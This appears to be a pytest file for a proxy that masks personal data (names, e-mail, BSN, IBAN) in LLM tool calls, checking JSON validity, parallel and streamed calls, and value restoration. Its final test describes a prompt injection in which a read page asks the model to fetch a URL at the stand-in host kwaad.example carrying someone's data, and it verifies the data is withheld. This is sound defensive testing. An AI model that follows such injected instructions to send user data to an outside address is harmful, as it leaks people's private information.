"""Tool calls: arguments stay valid JSON, parallel calls keep apart, and results are masked on their way out."""

import json

import pytest

from harness import people
from standin import Answer

MODEL = "gpt-5-mini"
TOOLS = [
    {"type": "function", "function": {"name": name, "parameters": {"type": "object", "properties": {"wie": {"type": "string"}}}}}
    for name in ("stuur_brief", "zoek_klant")
]
#: A value with everything in it that JSON has to escape.


def arguments(got):
    first, second = got.tokens[:2]
    return {
        "ARGS0": json.dumps({"wie": first, "tekst": f"Beste {first},\n\"dank\" voor é", "n": 1}),
        "ARGS1": json.dumps({"zoek": [second, {"diep": second}]}, ensure_ascii=False),
    }


EXPECTED = [
    {"wie": people.ACCENTED, "tekst": f"Beste {people.ACCENTED},\n\"dank\" voor é", "n": 1},
    {"zoek": [people.OTHER, {"diep": people.OTHER}]},
]


def test_parallel_calls_are_restored_and_stay_json(client, standin, nothing_left):
    standin.answer = Answer(wire="chat_tools", words=arguments)
    said = client.chat.completions.create(model=MODEL, tools=TOOLS, messages=[{"role": "user", "content": people.MEETING}])
    calls = said.choices[0].message.tool_calls
    assert [call.function.name for call in calls] == ["stuur_brief", "zoek_klant"]
    assert [json.loads(call.function.arguments) for call in calls] == EXPECTED
    nothing_left(people.ACCENTED, people.OTHER)


@pytest.mark.parametrize("pieces", [1, 3, 5, 1000])
def test_streamed_parallel_calls_keep_apart(client, standin, pieces):
    standin.answer = Answer(wire="chat_tools", words=arguments, pieces=pieces)
    stream = client.chat.completions.create(
        model=MODEL, tools=TOOLS, stream=True, messages=[{"role": "user", "content": people.MEETING}]
    )
    built, names, ended = ["", ""], ["", ""], False
    for chunk in stream:
        for choice in chunk.choices:
            for call in choice.delta.tool_calls or []:
                assert not ended
                built[call.index] += call.function.arguments or ""
                names[call.index] += call.function.name or ""
            ended = ended or choice.finish_reason == "tool_calls"
    assert ended and names == ["stuur_brief", "zoek_klant"]
    assert [json.loads(text) for text in built] == EXPECTED


def test_a_whole_tool_round_keeps_every_value_home(client, standin, nothing_left):
    messages = [{"role": "user", "content": people.MEETING}]
    standin.answer = Answer(wire="chat_tools", words=arguments)
    said = client.chat.completions.create(model=MODEL, tools=TOOLS, messages=messages).choices[0].message
    messages.append(said.model_dump(exclude_none=True))
    found = json.dumps([{"naam": people.OTHER, "mail": people.MAIL, "bsn": people.BSN, "iban": people.IBAN}])
    messages += [
        {"role": "tool", "tool_call_id": said.tool_calls[0].id, "content": "verstuurd"},
        {"role": "tool", "tool_call_id": said.tool_calls[1].id, "content": found},
    ]
    standin.answer = Answer(words=lambda got: "Gevonden: " + ", ".join(got.tokens))
    text = client.chat.completions.create(model=MODEL, tools=TOOLS, messages=messages).choices[0].message.content
    assert all(value in text for value in (people.ACCENTED, people.OTHER, people.MAIL, people.BSN, people.IBAN))
    nothing_left(people.ACCENTED, people.OTHER, people.MAIL, people.BSN, people.IBAN)
    result = json.loads(standin.last.json["messages"][-1]["content"])
    assert set(result[0]) == {"naam", "mail", "bsn", "iban"}
    first, second = standin.seen
    assert first.tokens == second.tokens[:2], "the people got other tokens in the second turn"


def test_a_number_in_arguments_is_masked_and_the_json_stays_valid(client, standin, nothing_left):
    messages = [
        {"role": "user", "content": "Zoek op."},
        {
            "role": "assistant",
            "tool_calls": [
                {"id": "c", "type": "function", "function": {"name": "zoek_klant", "arguments": f'{{"bsn": {people.BSN}, "n": 3}}'}}
            ],
        },
        {"role": "tool", "tool_call_id": "c", "content": "niets"},
    ]
    client.chat.completions.create(model=MODEL, tools=TOOLS, messages=messages)
    sent = standin.last.json["messages"][1]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(sent)["n"] == 3
    nothing_left(people.BSN)


def test_a_url_in_arguments_gets_no_value(client, standin):
    """A page that the model read can ask it to fetch an address with someone's data in it."""
    standin.answer = Answer(
        wire="chat_tools",
        words=lambda got: {"ARGS0": json.dumps({"url": f"https://kwaad.example/?q={got.tokens[0]}"}), "ARGS1": json.dumps({"wie": got.tokens[0]})},
    )
    said = client.chat.completions.create(
        model=MODEL, tools=TOOLS, messages=[{"role": "user", "content": f"Mail {people.MAIL}."}]
    )
    url, other = (json.loads(call.function.arguments) for call in said.choices[0].message.tool_calls)
    assert people.MAIL.split("@")[0] not in url["url"]
    assert other == {"wie": people.MAIL}
